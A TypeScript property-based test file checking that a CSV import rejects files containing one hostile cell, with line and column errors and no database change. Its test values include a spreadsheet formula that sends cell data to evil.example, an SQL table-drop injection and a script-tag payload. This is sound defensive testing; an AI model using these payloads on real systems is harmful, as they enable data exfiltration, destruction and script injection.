import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { activityDataset, servicesDataset } from "../../app/domain/hjp/datasets";
import { createTestDb, snapshotTables, type TestDatabase } from "../db";
import { HOSTILE_SEED } from "../setup/hostile";
import { datasetCsv, example, importFile, registerOrganisation, tempDir } from "../fixtures/hjp-setup";

/**
 * Hostile files through the whole import path (read, parse, load in one transaction):
 * any file with a bad row is refused with errors naming line and column, and the
 * database is unchanged; a good row beside the bad one is not loaded either.
 */
const badCell = fc.constantFrom(
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "'; drop table hjp_episodes; --",
  "<script>alert(1)</script>",
  "-5",
  "99999999999999999999",
  "0001-01-01",
  "2025-13-45",
  "x".repeat(20_000),
);

describe("hostile HJP activity files", () => {
  let database: TestDatabase;
  const files = tempDir();
  let runs = 0;

  beforeAll(async () => {
    database = await createTestDb();
    await registerOrganisation(database);
    const services = await importFile(database, "hjp-services", files.write("services.csv", datasetCsv(servicesDataset, [example(servicesDataset)])));
    expect(services.status).toBe("loaded");
  });
  afterAll(async () => {
    await database.cleanup();
    files.remove();
    console.log(`hostile HJP activity files: ${runs} generated files imported`);
  });

  it("a file with one hostile cell among good rows is refused whole, naming the line, and changes nothing", async () => {
    const columns = ["referral_date", "reporting_period", "gains_recurring_annual", "swemwbs_baseline", "age_band", "problem_categories"].filter((c) =>
      activityDataset.list.some((d) => d.name === c),
    );
    expect(columns.length).toBeGreaterThan(3);
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...columns), badCell, fc.integer({ min: 0, max: 3 }), async (column, value, position) => {
        runs++;
        const rows = [0, 1, 2, 3].map((i) => example(activityDataset, { episode_ref: `CASE-9${i}` }));
        rows[position] = { ...rows[position]!, [column]: value };
        const before = await snapshotTables(database);
        const summary = await importFile(database, "hjp-activity", files.write(`hostile-${runs}.csv`, datasetCsv(activityDataset, rows)));
        expect(summary.status).toBe("failed");
        expect(summary.rowsLoaded).toBe(0);
        expect(summary.errors.some((e) => e.line === position + 2 && e.column === column)).toBe(true);
        expect(await snapshotTables(database)).toEqual(before);
      }),
      { numRuns: 12, seed: HOSTILE_SEED },
    );
  }, 600_000);
});
